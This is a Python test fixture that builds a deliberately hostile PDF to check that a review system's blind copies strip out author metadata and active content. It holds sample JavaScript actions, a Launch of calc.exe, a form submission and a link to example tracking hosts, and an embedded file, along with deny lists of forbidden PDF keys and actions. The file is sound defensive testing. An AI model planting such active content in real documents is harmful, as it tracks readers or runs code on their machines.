"""A PDF that names its author everywhere a PDF can, and carries every kind of active content,
written with pypdf; and a walker that reads a PDF back object by object."""

import io

from reviewhub.submissions.pdfgen import make_pdf
from tests.submissions.media import NAME, SERIAL, XMP, jpeg

TRACKERS = (b"tracker.example", b"calc.exe", b"collect.example", b"app.alert")
# Keys none of whose dictionaries may survive anywhere in a blind copy.
FORBIDDEN_KEYS = {"/Metadata", "/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF",
                  "/AcroForm", "/URI", "/PieceInfo", "/Outlines", "/PA"}
FORBIDDEN_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}
ANNOTATION_KEYS = {"/T", "/Contents", "/RC", "/V", "/Popup", "/FS"}


def hostile_pdf() -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        ByteStringObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    def name(value):
        return NameObject(value)

    def text(value):
        return TextStringObject(value)

    def dictionary(**items):
        return DictionaryObject({name("/" + k): v for k, v in items.items()})

    def stream(data: bytes, **items):
        made = DecodedStreamObject()
        made.set_data(data)
        made.update({name("/" + k): v for k, v in items.items()})
        return made

    writer = PdfWriter(clone_from=io.BytesIO(make_pdf("Brushes that listen", "An anonymous study of brushes. " * 40,
                                                      min_pages=2)))
    add = writer._add_object
    writer.add_metadata({"/Author": NAME, "/Creator": f"{NAME}'s LaTeX", "/Keywords": SERIAL})
    xmp = add(stream(XMP.encode(), Type=name("/Metadata"), Subtype=name("/XML")))
    writer._root_object[name("/Metadata")] = xmp
    first, second = writer.pages[0], writer.pages[1]
    first[name("/Metadata")] = add(stream(XMP.encode(), Type=name("/Metadata"), Subtype=name("/XML")))
    first[name("/PieceInfo")] = dictionary(Illustrator=dictionary(Private=text(f"{NAME}'s layers")))
    font = first["/Resources"]["/Font"]["/F1"]
    font[name("/Metadata")] = add(stream(XMP.encode(), Type=name("/Metadata"), Subtype=name("/XML")))
    photo = jpeg(orientation=None)
    image = add(stream(photo, Type=name("/XObject"), Subtype=name("/Image"), Width=NumberObject(24),
                       Height=NumberObject(16), ColorSpace=name("/DeviceRGB"), BitsPerComponent=NumberObject(8),
                       Filter=name("/DCTDecode")))
    image.get_object()[name("/Metadata")] = add(stream(XMP.encode(), Type=name("/Metadata"), Subtype=name("/XML")))
    first["/Resources"][name("/XObject")] = dictionary(Im1=image)

    rect = ArrayObject([FloatObject(v) for v in (50, 50, 150, 80)])
    dest = ArrayObject([second.indirect_reference, name("/Fit")])

    def link(action=None, **extra):
        items = dict(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect, **extra)
        if action is not None:
            items["A"] = action
        return add(dictionary(**items))

    popup = add(dictionary(Type=name("/Annot"), Subtype=name("/Popup"), Rect=rect, T=text(NAME)))
    note = add(dictionary(Type=name("/Annot"), Subtype=name("/Text"), Rect=rect, T=text(NAME),
                          Contents=text(f"Note to self, {NAME}"), Popup=popup))
    free = add(dictionary(Type=name("/Annot"), Subtype=name("/FreeText"), Rect=rect, T=text(NAME),
                          Contents=text(f"Drafted by {NAME}"), DA=text("/Helv 10 Tf 0 g")))
    appearance = add(stream(f"BT /Helv 10 Tf ({NAME}) Tj ET".encode(), Type=name("/XObject"), Subtype=name("/Form"),
                            BBox=rect))
    widget = add(dictionary(Type=name("/Annot"), Subtype=name("/Widget"), FT=name("/Tx"), T=text("author"),
                            V=text(NAME), Rect=rect, AP=dictionary(N=appearance)))
    payload = add(stream(f"secret notes of {NAME}".encode(), Type=name("/EmbeddedFile")))
    filespec = add(dictionary(Type=name("/Filespec"), F=text("notes.txt"), EF=dictionary(F=payload)))
    attachment = add(dictionary(Type=name("/Annot"), Subtype=name("/FileAttachment"), Rect=rect, FS=filespec,
                                T=text(NAME)))
    javascript = dictionary(S=name("/JavaScript"), JS=text("app.alert(1)"))
    annotations = [
        note, popup, free, widget, attachment,
        link(dictionary(S=name("/URI"), URI=text(f"https://tracker.example/{NAME.replace(' ', '')}"))),
        link(dictionary(S=name("/Launch"), F=text("calc.exe"))),
        link(add(javascript)),
        link(dictionary(S=name("/SubmitForm"), F=dictionary(FS=name("/URL"), F=text("https://collect.example/")))),
        link(Dest=dest),  # an internal link: stays
        link(dictionary(S=name("/GoTo"), D=dest, Next=dictionary(S=name("/JavaScript"), JS=text("app.alert(2)")))),
    ]
    first[name("/Annots")] = ArrayObject(annotations)
    first[name("/AA")] = dictionary(O=dictionary(S=name("/JavaScript"), JS=text("app.alert(3)")))
    root = writer._root_object
    root[name("/OpenAction")] = dictionary(S=name("/JavaScript"), JS=text(f"this.submitForm('{NAME}')"))
    root[name("/AcroForm")] = dictionary(Fields=ArrayObject([widget]))
    root[name("/Names")] = dictionary(
        JavaScript=dictionary(Names=ArrayObject([text("init"), add(javascript)])),
        EmbeddedFiles=dictionary(Names=ArrayObject([text("notes.txt"), filespec])))
    writer._ID = ArrayObject([ByteStringObject(b"ada-laptop.local:" + SERIAL.encode()),
                              ByteStringObject(b"ada-laptop.local:" + SERIAL.encode())])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def every_object(data: bytes):
    """(id, object) for every object the file's cross-reference table lists, each with all its
    direct children (dictionaries and arrays inside it), and the decoded data of streams."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

    reader = PdfReader(io.BytesIO(data))
    size = int(reader.trailer["/Size"])
    for idnum in range(1, size):
        try:
            obj = reader.get_object(IndirectObject(idnum, 0, reader))
        except Exception:
            continue  # a free entry
        stack = [obj]
        while stack:
            item = stack.pop()
            if isinstance(item, IndirectObject):
                continue  # visited as its own object
            yield idnum, item
            if isinstance(item, DictionaryObject):
                stack.extend(item.raw_get(k) for k in item)
            elif isinstance(item, ArrayObject):
                stack.extend(item)
            if isinstance(item, StreamObject):
                yield idnum, item.get_data()
